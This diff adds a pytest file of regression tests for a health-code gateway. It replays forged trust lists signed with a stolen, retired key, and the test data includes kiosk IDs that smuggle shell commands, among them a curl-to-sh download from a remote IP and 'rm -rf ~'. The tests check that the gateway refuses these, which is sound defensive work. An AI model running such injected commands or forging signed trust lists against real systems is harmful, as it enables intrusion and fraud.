@@ -1,0 +1,196 @@
+"""Issue 19: the attacker came back.  Each test is an attack that worked against a running
+gateway (or its CLI, or its pages) after the second round of fixes, run as it was found, and
+refused or bounded since.
+
+* a national key retired by ``keys rotate national`` still signed trust lists that offline
+  verifiers accepted — with the thief's own regional key and a far-future ``seq`` that then
+  had every genuine list refused as "older";
+* the kiosk page showed staff a shell command built from the address's ``kiosk_id``;
+"""
+from __future__ import annotations
+
+import json
+import time
+from pathlib import Path
+
+import pytest
+
+from conftest import LiveServer, config_with_limits, run_cli
+from test_attacks import call          # (server with .url and .cred, method, path, role)
+
+BJ = ("110101197612039635", "刘建国")
+GD = ("440305193606300643", "陈秀英")
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory):
+    """A threaded gateway with small kiosk limits, and a token per role."""
+    data = tmp_path_factory.mktemp("returning")
+    config = config_with_limits(data, kiosk_lookups_per_minute=4)
+    env = {"HEALTHCODE_CONFIG": str(config)}
+    for region, (id_number, name) in (("110000", BJ), ("440000", GD)):
+        run_cli("issue", "--region", region, "--id-number", id_number, "--name", name, data_dir=data,
+                check=True, env=env)
+    server = LiveServer(data, env)
+    server.env = env
+
+    def token(role, principal, *extra):
+        out = run_cli("credentials", "add", "--role", role, "--id", principal, *extra, data_dir=data,
+                      check=True, env=env)
+        return json.loads(out.stdout)["token"]
+
+    server.cred = {"kiosk": token("kiosk", "kiosk-r", "--kiosk-id", "bj-station-1"),
+                   "operator": token("operator", "op-r"), "dm": token("data_manager", "dm-r"),
+                   "auditor": token("auditor", "aud-r")}
+    yield server
+    server.stop()
+
+
+def cli(world, *args):
+    return run_cli(*args, data_dir=world.data, env=world.env)
+
+
+# --- 1. a retired national key ----------------------------------------------------------------------
+def stolen_national_signer(data: Path):
+    """The national key as a backup taken before rotation holds it: the active one, now."""
+    from issuers.keys import KeyStore
+    return KeyStore(data).signer("national")
+
+
+def forged_list_and_code(world, signer, iat: int, seq: int, exp: int):
+    """What the thief signs with the old national key: the genuine list plus their own Beijing
+    key, and a green code under that key."""
+    import adapters
+    from issuers.keys import Signer
+    from standard import jose, trustlist
+    genuine = call(world, "GET", "/v1/trust-list").json()
+    own = jose.generate_private_key("ES256")
+    kid = "thief-" + jose.short_kid(jose.public_jwk(own))
+    payload = json.loads(json.dumps(genuine["trust_list"]))
+    beijing = next(i for i in payload["issuers"] if i["region"] == "110000")
+    beijing["keys"].append({**jose.public_jwk(own), "kid": kid, "alg": "ES256", "use": "sig",
+                            "status": "active", "nbf": iat - 60})
+    payload.update(iat=iat, seq=seq, exp=exp)
+    token = trustlist.sign(payload, signer)
+    red = cli(world, "issue", "--region", "110000", "--id-number", BJ[0], "--name", BJ[1], "--status", "red",
+              "--kind", "offline").stdout.strip()
+    adapter = adapters.get("jiankangbao")
+    claims = adapter.verify(red, trustlist.TrustList(genuine["trust_list"]), int(time.time())).claims
+    claims = {**claims, "status": "green", "reasons": [], "iat": iat, "exp": min(exp, iat + 86400)}
+    return token, adapter.encode(claims, Signer("110000", kid, "ES256", own))
+
+
+def offline(world, code, listed: Path, keys: Path, state: Path):
+    return cli(world, "verify", code, "--trust-list", str(listed), "--national-keys", str(keys), "--state", str(state))
+
+
+def test_a_retired_national_key_signs_no_list_after_its_retirement(world, tmp_path):
+    old = stolen_national_signer(world.data)
+    rotated = call(world, "POST", "/v1/admin/keys/national/rotate", "dm")
+    assert rotated.status_code == 200 and rotated.json()["kid"] != old.kid
+    keys = tmp_path / "national.json"
+    keys.write_text(json.dumps(call(world, "GET", "/v1/trust-list/national-keys").json()))
+    retired = next(k for k in json.loads(keys.read_text())["keys"] if k["kid"] == old.kid)
+    assert retired["status"] == "retired" and isinstance(retired["retired_at"], int)
+    state, listed = tmp_path / "seen.json", tmp_path / "forged.jws"
+    after = retired["retired_at"] + 30
+    # signed after the retirement, with a far-future seq: refused, and nothing remembered
+    token, green = forged_list_and_code(world, old, after, after + 10 ** 9, after + 7 * 86400)
+    listed.write_text(token)
+    out = offline(world, green, listed, keys, state)
+    assert out.returncode == 2 and "retired before this list was issued" in out.stderr, out.stderr
+    assert not state.exists()
+    # backdated to before the retirement: its seq may not run ahead, nor its life past 7 days
+    back = retired["retired_at"] - 5
+    for seq, exp, why in ((back + 10 ** 9, back + 7 * 86400, "seq is far ahead of its iat"),
+                          (back, back + 365 * 86400, "would live longer than 7 days")):
+        token, green = forged_list_and_code(world, old, back, seq, exp)
+        listed.write_text(token)
+        out = offline(world, green, listed, keys, state)
+        assert out.returncode == 2 and why in out.stderr, out.stderr
+    # the genuine list, under the new key, still verifies a genuine code
+    genuine = tmp_path / "genuine.jws"
+    genuine.write_text(call(world, "GET", "/v1/trust-list").json()["jws"])
+    code = cli(world, "issue", "--region", "440000", "--id-number", GD[0], "--name", GD[1], "--kind",
+               "offline").stdout.strip()
+    assert offline(world, code, genuine, keys, state).returncode == 0
+
+
+def test_a_future_dated_list_is_refused_and_a_far_ahead_seq_locks_nothing_out(world, tmp_path):
+    keys, state, listed = tmp_path / "national.json", tmp_path / "seen.json", tmp_path / "list.jws"
+    keys.write_text(json.dumps(call(world, "GET", "/v1/trust-list/national-keys").json()))
+    now = int(time.time())
+    token, green = forged_list_and_code(world, stolen_national_signer(world.data), now + 3 * 86400,
+                                        now + 3 * 86400, now + 5 * 86400)
+    listed.write_text(token)                          # even the active key cannot date a list ahead
+    out = offline(world, green, listed, keys, state)
+    assert out.returncode == 2 and "issued in the future" in out.stderr, out.stderr
+    # a verifier that accepted a far-future seq before these rules is not locked out for ever
+    state.write_text(json.dumps({"seq": now + 10 ** 9}))
+    listed.write_text(call(world, "GET", "/v1/trust-list").json()["jws"])
+    code = cli(world, "issue", "--region", "440000", "--id-number", GD[0], "--name", GD[1], "--kind",
+               "offline").stdout.strip()
+    assert offline(world, code, listed, keys, state).returncode == 0
+    assert json.loads(state.read_text())["seq"] <= now + 3600
+
+
+def test_the_checkpoint_page_applies_the_same_rules_to_national_keys(world):
+    """In Chromium: the page's own check of a cached list refuses what the CLI refuses, and a
+    far-future seq it remembered from before does not keep it from loading the genuine list."""
+    from test_pages_scan import chromium, wait_for
+    old = stolen_national_signer(world.data)
+    assert call(world, "POST", "/v1/admin/keys/national/rotate", "dm").status_code == 200
+    retired_at = next(k for k in call(world, "GET", "/v1/trust-list/national-keys").json()["keys"]
+                      if k["kid"] == old.kid)["retired_at"]
+    after, back, now = retired_at + 30, retired_at - 5, int(time.time())
+    forged = {
+        "retired before this list was issued": forged_list_and_code(world, old, after, after, after + 86400)[0],
+        "seq is far ahead of its iat": forged_list_and_code(world, old, back, back + 10 ** 9, back + 86400)[0],
+        "would live longer than 7 days": forged_list_and_code(world, old, back, back, back + 365 * 86400)[0],
+        "issued in the future": forged_list_and_code(world, stolen_national_signer(world.data), now + 3 * 86400,
+                                                     now + 3 * 86400, now + 5 * 86400)[0],
+    }
+    genuine = call(world, "GET", "/v1/trust-list").json()
+    driver = chromium()
+    try:
+        driver.get(world.url + "/checkpoint")
+        wait_for(driver, lambda d: d.execute_script("return document.body.dataset.trust") == "ready")
+
+        def load(jws, min_seq=0):
+            return driver.execute_async_script(
+                "const done = arguments[arguments.length - 1];"
+                "HCOffline.loadTrustList(arguments[0], NATIONAL_KEYS, Math.floor(Date.now() / 1000), arguments[1])"
+                ".then((t) => done({seq: t.seq}), (e) => done({code: e.code, message: e.message}))", jws, min_seq)
+
+        for why, token in forged.items():
+            refused = load(token)
+            assert refused.get("code") == "trust_list_invalid" and why in refused["message"], (why, refused)
+        assert load(genuine["jws"]) == {"seq": genuine["seq"]}
+        assert "older" in load(genuine["jws"], genuine["seq"] + 1)["message"]          # replay still refused
+        assert load(genuine["jws"], now + 10 ** 9) == {"seq": genuine["seq"]}         # no lock-out
+        driver.execute_script("localStorage.setItem('hc.trustSeq', arguments[0])", str(now + 10 ** 9))
+        driver.get(world.url + "/checkpoint")
+        wait_for(driver, lambda d: d.execute_script("return document.body.dataset.trust") == "ready")
+        assert int(driver.execute_script("return localStorage.getItem('hc.trustSeq')")) <= now + 3600
+    finally:
+        driver.quit()
+
+
+# --- 8. the kiosk page's staff hint ------------------------------------------------------------------
+@pytest.mark.parametrize("kiosk_id", ["k1;curl http://203.0.113.9/x|sh;#", "k1 $(reboot)", "k1\nrm -rf ~", "`id`"])
+def test_the_kiosk_shows_a_shell_command_only_for_a_credential_id(world, kiosk_id):
+    from urllib.parse import quote
+    from selenium.webdriver.common.by import By
+    from test_pages_scan import chromium, wait_for
+    driver = chromium()
+    try:
+        driver.get(f"{world.url}/kiosk?kiosk_id={quote(kiosk_id)}")
+        hint = wait_for(driver, lambda d: d.find_element(By.ID, "staff"))
+        wait_for(driver, lambda d: hint.is_displayed())
+        assert "healthcode credentials add" not in hint.text and "curl" not in hint.text
+        assert "not a valid id" in hint.text
+        driver.get(f"{world.url}/kiosk?kiosk_id=bj-station-2")                 # a real id: the command
+        hint = wait_for(driver, lambda d: d.find_element(By.ID, "staff"))
+        assert "healthcode credentials add --role kiosk --id bj-station-2 --kiosk-id bj-station-2" in hint.text
+    finally:
+        driver.quit()
